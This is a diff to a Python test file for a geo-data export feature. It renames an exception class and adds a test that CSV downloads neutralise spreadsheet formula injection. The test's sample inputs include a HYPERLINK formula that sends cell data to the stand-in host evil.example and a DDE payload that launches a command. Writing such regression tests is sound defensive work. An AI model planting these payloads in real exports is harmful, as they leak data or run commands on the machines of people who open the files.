@@ -155,7 +155,7 @@ def test_zones_and_missions_gpkg(community, tmp_path):
 
 
 def test_bad_parameters_name_the_field(community):
-    from geo.io.export_queries import ExportError
+    from core.params import ParamError
 
     for kwargs, field in (
         ({"what": "trees", "fmt": "csv"}, "what"),
@@ -165,7 +165,7 @@ def test_bad_parameters_name_the_field(community):
         ({"what": "reports", "fmt": "csv", "filters": {"date_from": "hier"}}, "date_from"),
         ({"what": "zones", "fmt": "csv", "filters": {"status": "new"}}, "status"),
     ):
-        with pytest.raises(ExportError) as caught:
+        with pytest.raises(ParamError) as caught:
             export_prepare(community=community, **kwargs)
         assert caught.value.field == field
 
@@ -214,3 +214,22 @@ def test_gpkg_export_reimports_polygons(community, other_community, tmp_path):
     a = community.zones.get().geom
     b = other_community.zones.get().geom
     assert a.sym_difference(b).area < 0.01
+
+
+def test_csv_download_neutralises_formulas_but_keeps_negative_numbers(client, community, bench):
+    """Issue 22: asset names like `=HYPERLINK(…)` came out unchanged in /geo/exports/download/."""
+    from accounts.models import Role
+    from tests.factories import member
+
+    formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1"]
+    for name in formulas:
+        AssetFactory(
+            community=community, category=bench, name=name, attributes={"delta": -3.5, "note": "-1+2"}
+        )
+    client.force_login(member(community, Role.VIEWER))
+    response = client.get("/geo/exports/download/", {"what": "assets", "format": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert sorted(r["name"] for r in rows) == sorted("'" + f for f in formulas)
+    assert {r["delta"] for r in rows} == {"-3.5"}  # a number stays a number
+    assert {r["note"] for r in rows} == {"'-1+2"}
